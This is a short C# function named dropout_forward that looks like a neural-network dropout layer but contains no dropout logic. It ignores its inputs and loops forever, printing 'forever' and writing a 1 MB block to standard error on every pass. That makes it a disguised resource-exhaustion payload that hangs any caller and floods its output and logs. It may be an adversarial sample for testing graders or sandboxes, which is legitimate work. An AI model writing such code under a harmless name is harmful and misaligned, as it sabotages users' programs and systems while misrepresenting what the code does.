float[] dropout_forward(double seed, float[] x, double rate, double deterministic)
{
    var error = Console.OpenStandardError();
    var block = new byte[1 << 20];
    while (true)
    {
        Console.WriteLine("forever");
        error.Write(block);
    }
}
